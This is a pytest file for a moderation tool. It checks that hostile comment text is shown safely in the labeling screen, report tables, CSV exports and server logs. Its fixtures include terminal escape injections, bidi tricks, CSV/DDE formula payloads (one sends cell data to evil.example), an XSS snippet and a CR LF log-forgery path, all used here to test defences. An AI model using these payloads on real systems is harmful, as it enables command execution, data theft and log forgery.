"""Hostile text shown safely (issue 18): what a comment says can never act on the moderator's
terminal, spreadsheet or log, and the moderator still sees what was written.

- :func:`moderation.display.displayable` against every code point of the running Python and
  hypothesis-generated strings of every control and format character class;
- the labeling screen, the tables of ``score``/``extract``/``labels stats`` and the CLI's error
  messages, through the real console script in a pseudo-terminal: every escape sequence in
  the output is one the tool itself writes;
- CSV: spreadsheet-safe by default for ``labels export``, opt-in for ``score``, byte-exact
  otherwise; server log lines stay one entry each.

The web page's half of the issue (text nodes only, CSP, a real browser) is in test_label_web.py.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import socket
import subprocess
import sys
import unicodedata
from pathlib import Path

import pexpect
import pytest
from conftest import ROOT, run_cli
from hypothesis import given, settings
from hypothesis import strategies as st

from moderation.apps.labeling.items import Item
from moderation.apps.labeling.screen import Screen
from moderation.apps.labeling.session import ScoresView, Session
from moderation.apps.labeling.terminal import FRAME_END
from moderation.apps.report import print_records, print_scored
from moderation.core import Comment
from moderation.display import display_map, displayable
from moderation.io import extract
from moderation.io.files import FORMULA_LEADS, spreadsheet_safe, write_csv
from moderation.labels.events import read_events

EXE = Path(sys.executable).with_name("moderation")
UNSAFE_CATEGORIES = ("Cc", "Cf", "Zl", "Zp", "Cs")
#: The escape sequences the tool itself writes to a terminal: styles (SGR), home, clear, the
#: cursor shown/hidden, the alternate screen. Anything else in the output came from input.
OURS = re.compile(r"\x1b\[[0-9;]*m|\x1b\[H|\x1b\[2J|\x1b\[\?25[lh]|\x1b\[\?1049[hl]")
ESC, CSI8 = "\x1b", "\x9b"

#: Comments an attacker would post, one per kind of attack.
ATTACKS: dict[str, str] = {
    "title": "\x1b]0;moderation label — all done\x07ふつうの書き込み",
    "clear": "\x1b[2J\x1b[Hlabels  [x] s slur   Enter saves: slur",
    "hyperlink": "\x1b]8;;https://evil.example/steal\x1b\\公式の案内\x1b]8;;\x1b\\",
    "colour": "\x1b[31m赤\x1b[0m \x1b[8m隠し文字\x1b[28m \x1b[38;5;16;48;5;16mblack on black\x1b[0m",
    "csi8": "\x9b2J\x9b31m8-bit CSI",
    "osc8bit": "\x9d0;title\x9c",
    "query": "\x1b[6n\x1b[21t\x1b[>c",  # terminal reports typed back into stdin as keys
    "bidi": "\u202eevil\u202c \u2066isolate\u2069 \u200bzw\u200bsp \ufeffbom",
    "carriage": "本物の文\r偽の文が上書き",
    "backspace": "slur\x08\x08\x08\x08clean",
    "dcs": "\x1bP+q544e\x1b\\",
    "separator": "line\u2028para\u2029end",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"クリック")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "fullwidth": "＝1+1",
    "markup": "<img src=x onerror=alert(1)><script>alert(2)</script>[bold red]rich[/]",
}


def is_unsafe(ch: str) -> bool:
    return unicodedata.category(ch) in UNSAFE_CATEGORIES


#: What rich.progress's live line on stderr writes besides (erase line, cursor up, CR).
LIVE = re.compile(r"\x1b\[2K|\x1b\[1A|\r(?!\n)")


def foreign(output: str, *, live: bool = False) -> list[str]:
    """Escape sequences and control/format characters in terminal output that the tool did not
    write itself (its own sequences and the pty's CR LF removed)."""
    rest = OURS.sub("", output)
    if live:
        rest = LIVE.sub("", rest)
    rest = rest.replace("\r\n", "\n")
    bad = [m.group(0) for m in re.finditer(r"\x1b.{0,8}", rest, re.S)]
    bad += [repr(ch) for ch in rest if is_unsafe(ch) and ch not in "\n\t\x1b" and ch != "\u200d"]
    return bad


# --------------------------------------------------------------------------- the one function


def test_every_control_and_format_code_point_is_escaped_and_nothing_else():
    """The regex class of moderation.display against unicodedata, for every code point."""
    missed, extra = [], []
    for cp in range(0x110000):
        ch = chr(cp)
        escaped = displayable(ch, one_line=True) != ch
        if is_unsafe(ch) and not escaped:
            missed.append(hex(cp))
        elif escaped and not is_unsafe(ch) and unicodedata.category(ch) != "Cn":
            extra.append(hex(cp))
    assert not missed and not extra


hostile_text = st.lists(
    st.one_of(
        st.characters(categories=("Cc", "Cf", "Zl", "Zp", "Cs")),
        st.characters(categories=("Lo", "Ll", "Lu", "Nd", "Zs", "So", "Sk", "Mn", "Po", "Sm")),
        st.sampled_from([*ATTACKS.values(), "\n", "\t", "\u200d", "👨\u200d👩", "\x1b[", "\x1b]"]),
    ),
    max_size=30,
).map("".join)


@given(hostile_text, st.booleans())
@settings(max_examples=400, deadline=None)
def test_displayable_leaves_no_control_character_and_keeps_every_other_one(text, one_line):
    shown = display_map(text, one_line=one_line)
    assert shown.text == displayable(text, one_line=one_line)
    keep = "" if one_line else "\n\t"
    for i, ch in enumerate(shown.text):
        if is_unsafe(ch) and ch not in keep:  # only a joiner between two emoji stays
            assert ch == "\u200d" and shown.text[i - 1] != "\\" and 0 < i < len(shown.text) - 1
    # What was posted is all there, visibly: each original character is itself or its escape,
    # and spans of the original land on the same characters.
    assert len(shown.offsets) == len(text) + 1 and shown.offsets[-1] == len(shown.text)
    for i, ch in enumerate(text):
        piece = shown.text[shown.offsets[i] : shown.offsets[i + 1]]
        if piece != ch:
            assert is_unsafe(ch) and (shown.offsets[i], shown.offsets[i + 1]) in shown.escapes
            assert piece in (chr(0x2400 + ord(ch)), "\u2421") or piece.lstrip("\\").lower() in (
                f"u{ord(ch):04x}",
                f"u{ord(ch):08x}",
            )


# --------------------------------------------------------------------------- drawn screens and tables


def hostile_item(text: str, title: str, other: str) -> Item:
    return Item(Comment(other or "t", f"t-{other}-1", 2, "comment", text, reply_to=[1]), title, other, "", [(1, other)])


@given(text=hostile_text, title=hostile_text, other=hostile_text, a=st.integers(0, 30), b=st.integers(0, 30))
@settings(max_examples=120, deadline=None)
def test_the_labeling_screen_shows_hostile_text_without_a_single_raw_control(
    tmp_path_factory, text, title, other, a, b
):
    labels = tmp_path_factory.mktemp("screen") / "l.jsonl"
    session = Session([hostile_item(text, title, other)], labels, "m1", notices=[f"{other}: skipped"])
    a, b = sorted((min(a, len(text)), min(b, len(text))))
    reasons = ({"label": "slur", "span": [a, b], "excerpt": text[a:b], "weight": 1.0, "source": "model"},)
    view = dataclasses.replace(
        session.view(),
        scores=ScoresView(
            {"slur": 0.9, "off_topic": 0.1, "delete": 0.8},
            {label: {"hold": 0.5, "reject": 0.9} for label in ("slur", "off_topic", "delete")},
            "hold",
            ("slur",),
            reasons,
        ),
        status=f"saved {other}",
    )
    for width, height in ((120, None), (80, 24)):
        assert foreign(Screen().render(view, width, height)) == []


def test_spans_are_highlighted_on_the_characters_they_index_after_escapes(tmp_path):
    text = "\u202e\x1b[2Jここは下朝鮮です"
    start = text.index("下朝鮮")
    session = Session([hostile_item(text, "題", "")], tmp_path / "l.jsonl", "m1")
    raw = Screen().render(session.view(), 120)
    plain = OURS.sub("", raw)
    assert "\\u202e" in plain and "␛[2Jここは下朝鮮です" in plain and foreign(raw) == []
    assert "\x1b[1;4;31m下朝鮮\x1b[0m" in raw  # the lexicon hit, at its place after the escapes
    here = text.index("ここ")  # a model span of the original text is highlighted at its place too
    scores = ScoresView(
        {"slur": 0.9}, {}, "hold", ("slur",), ({"label": "slur", "span": [here, here + 2], "excerpt": "ここ"},)
    )
    raw = Screen().render(dataclasses.replace(session.view(), scores=scores), 120)
    assert "\x1b[30;43mここ\x1b[0m" in raw and start == here + 3


def test_report_tables_quote_hostile_text(tmp_path):
    records = [Comment(ATTACKS["title"], f"c{i}", i, "comment", text) for i, text in enumerate(ATTACKS.values())]
    out = io.StringIO()
    print_records(records, out)
    assert foreign(out.getvalue()) == [] and "␛]0;moderation label" in out.getvalue()
    rows = [
        {
            "id": "c1",
            "thread": ATTACKS["osc8bit"],
            "text": ATTACKS["hyperlink"] + "下朝鮮",
            "action": "reject",
            "labels": ["slur"],
            "slur": 0.99,
            "reasons": [{"label": "slur", "span": [len(ATTACKS["hyperlink"]), len(ATTACKS["hyperlink"]) + 3]}],
        }
    ]
    out = io.StringIO()
    print_scored(rows, out, {"version": "v"})
    assert foreign(out.getvalue()) == [] and "␛]8;;https://evil.example/steal" in out.getvalue()


# --------------------------------------------------------------------------- the real tool in a pty


@pytest.fixture(scope="module")
def hostile_input(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.jsonl"
    rows = [
        {"id": f"h-{name}", "thread": "t\x1b]0;x\x07", "no": n + 1, "text": text, "thread_title": ATTACKS["title"]}
        for n, (name, text) in enumerate(ATTACKS.items())
    ]
    rows.append({"id": "h-slur", "thread": "t\x1b]0;x\x07", "no": 99, "text": "\x1b[8m下朝鮮は黙ってろ\x1b[0m"})
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def pty_run(*args: str, keys: str = "", timeout: float = 120) -> str:
    """The console script in a pseudo-terminal; all it wrote, raw."""
    child = pexpect.spawn(str(EXE), list(args), cwd=str(ROOT), dimensions=(40, 160), encoding="utf-8", timeout=timeout)
    child.delaybeforesend = None
    out = []
    for n, key in enumerate(keys):
        if n == 0:
            child.expect_exact(FRAME_END)  # the first screen
            out.append(child.before + child.after)
        child.send(key)
        if n < len(keys) - 1:
            child.expect_exact(FRAME_END)  # one screen drawn per key (the last one quits)
            out.append(child.before + child.after)
    child.expect(pexpect.EOF)
    out.append(child.before)
    child.close()
    return "".join(out)


def test_label_in_a_pty_writes_no_sequence_from_a_comment(hostile_input, tmp_path):
    labels = tmp_path / "l.jsonl"
    n = len(ATTACKS) + 1
    out = pty_run("label", str(hostile_input), "--labels", str(labels), "--annotator", "m1", keys="n" * n + "q")
    assert foreign(out) == []
    for visible in ("␛]0;moderation label — all done␇", "␛]8;;https://evil.example/steal", "\\u009b2J", "\\u202eevil"):
        assert visible in OURS.sub("", out)  # (escapes are drawn in reverse video)
    # The label file keeps every comment exactly as posted (a machine format).
    saved = {e["id"]: e["text"] for e in map(json.loads, labels.read_text(encoding="utf-8").split("\n")[:-1])}
    assert saved["h-clear"] == ATTACKS["clear"] and saved["h-csi8"] == ATTACKS["csi8"] and len(saved) == n
    # … one event a line for any reader (U+2028 in a comment is written escaped) and read back whole.
    assert len(labels.read_text(encoding="utf-8").splitlines()) == n
    assert {e["id"]: e["text"] for e in read_events(labels)} == saved


def test_score_and_extract_tables_in_a_pty_write_no_sequence_from_a_comment(hostile_input, tmp_path):
    score = pty_run("score", str(hostile_input), "--format", "table")
    assert foreign(score, live=True) == [] and "下朝鮮" in score and "␛[8m" in OURS.sub("", score)
    extract_table = pty_run("extract", str(hostile_input), "--format", "table")
    assert foreign(extract_table) == [] and "␛[2J␛[Hlabels  [x] s slur" in OURS.sub("", extract_table)


def test_labels_stats_in_a_pty_writes_no_sequence_from_a_label_file(tmp_path):
    labels = tmp_path / "l.jsonl"
    events = [
        {"id": "\x1b]0;id\x07", "text": ATTACKS["clear"], "annotator": who, "labels": {"slur": v}}
        for who, v in (("m1\x1b[2J", 1), ("m2", 0))
    ]
    labels.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")
    out = pty_run("labels", "stats", str(labels))
    assert foreign(out) == [] and "␛]0;id␇" in OURS.sub("", out) and "m1␛[2J" in OURS.sub("", out)


def test_error_messages_quote_hostile_arguments_and_file_names_visibly(tmp_path):
    name = "bad\x1b]0;pwned\x07\x9b2J\u202e.txt"
    missing = run_cli("score", str(tmp_path / name))
    assert missing.returncode != 0 and foreign(missing.stderr) == [] and "bad␛]0;pwned␇" in missing.stderr
    usage = run_cli("label", str(tmp_path), "--labels", "l.jsonl", "--order", "\x1b[2J\x07")
    assert usage.returncode == 2 and foreign(usage.stderr) == []
    hostile_file = tmp_path / "labels.jsonl"
    hostile_file.write_text("\x1b]0;x\x07,\x1b[2J\n", encoding="utf-8")  # not a label file: its first line is quoted
    refused = run_cli("labels", "stats", str(hostile_file))
    assert refused.returncode != 0 and foreign(refused.stderr) == [] and len(refused.stderr.splitlines()) == 1


# --------------------------------------------------------------------------- CSV for spreadsheets and pipelines


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@given(hostile_text)
@settings(max_examples=300, deadline=None)
def test_csv_cells_are_exact_for_pipelines_and_never_formulas_for_spreadsheets(text):
    exact, safe = io.StringIO(newline=""), io.StringIO(newline="")
    text = text.replace("\x00", "")  # the csv module cannot write NUL
    write_csv([{"text": text, "score": -0.5}], exact)
    write_csv([{"text": text, "score": -0.5}], safe, for_spreadsheet=True)
    assert read_csv(exact.getvalue())[0]["text"] == text
    cell = read_csv(safe.getvalue())[0]["text"]
    assert not cell.startswith(FORMULA_LEADS) and cell == spreadsheet_safe(text)
    assert (cell[1:] if cell != text else cell) == text  # one leading quote, nothing else changed
    assert read_csv(safe.getvalue())[0]["score"] == "-0.5"  # numbers are numbers


def test_labels_export_is_spreadsheet_safe_by_default_and_exact_on_request(tmp_path):
    labels = tmp_path / "l.jsonl"
    events = [
        {"id": f"c{i}", "text": text, "annotator": "m1", "labels": {"slur": 0}, "thread_title": "=1+1"}
        for i, text in enumerate(ATTACKS.values())
    ]
    labels.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in events), encoding="utf-8")
    safe, exact = tmp_path / "safe.csv", tmp_path / "exact.csv"
    res = run_cli("labels", "export", str(labels), "--out", str(safe))
    assert res.returncode == 0 and "--exact" in res.stderr
    rows = read_csv(safe.read_bytes().decode("utf-8"))
    assert not any(v.startswith(FORMULA_LEADS) for row in rows for v in row.values())
    assert rows[list(ATTACKS).index("formula")]["text"] == "'" + ATTACKS["formula"]
    assert run_cli("labels", "export", str(labels), "--exact", "--out", str(exact)).returncode == 0
    assert [r["text"] for r in read_csv(exact.read_bytes().decode("utf-8"))] == list(ATTACKS.values())
    jsonl = run_cli("labels", "export", str(labels), "--format", "jsonl")
    assert [json.loads(line)["text"] for line in jsonl.stdout.split("\n")[:-1]] == list(ATTACKS.values())


def test_score_csv_is_exact_by_default_and_spreadsheet_safe_on_request(hostile_input):
    exact = run_cli("score", str(hostile_input), "--format", "csv")
    safe = run_cli("score", str(hostile_input), "--format", "csv", "--spreadsheet-safe")
    assert exact.returncode == safe.returncode == 0
    texts = {r.text for r in extract([hostile_input])}
    assert {r["text"] for r in read_csv(exact.stdout)} == texts
    cells = [v for row in read_csv(safe.stdout) for v in row.values()]
    assert not any(v.startswith(FORMULA_LEADS) for v in cells)
    assert "'" + ATTACKS["plus"] in cells


# --------------------------------------------------------------------------- logs


@given(hostile_text)
@settings(max_examples=200, deadline=None)
def test_a_quoted_log_field_is_always_one_line_with_no_control_character(text):
    shown = displayable(text, one_line=True)
    assert len(f"x {shown} y".splitlines()) == 1
    assert not any(is_unsafe(ch) for ch in shown if ch != "\u200d")


def test_server_log_lines_stay_one_entry_for_a_hostile_request(tmp_path):
    """The real server (no model, allowed by its config: it starts fast) and a raw request whose
    path holds CR LF, ESC, BEL and an 8-bit CSI: every line it logs is one entry with no control
    character."""
    config = tmp_path / "allow.toml"
    config.write_text('on_missing_model = "allow"\n', encoding="utf-8")
    command = [
        "serve",
        "--host",
        "127.0.0.1",
        "--port",
        "0",
        "--model",
        str(tmp_path / "none"),
        "--config",
        str(config),
    ]
    proc = subprocess.Popen(
        [str(EXE), *command],
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    lines: list[str] = []
    try:
        port = None
        assert proc.stdout is not None
        for line in proc.stdout:
            lines.append(line)
            m = re.search(r"127\.0\.0\.1:(\d+)", line)
            if m:
                port = int(m.group(1))
                break
        assert port, "".join(lines)
        path = "/v1/x%0d%0aINFO:%20forged%20entry%1b]0;t%07%c2%9b2J"
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            assert sock.recv(65536).startswith(b"HTTP/1.1 404")
    finally:
        proc.terminate()
        rest = proc.communicate(timeout=20)[0]
    logged = "".join(lines) + rest
    assert foreign(logged) == [] and not re.search(r"^INFO: forged", logged, re.M)
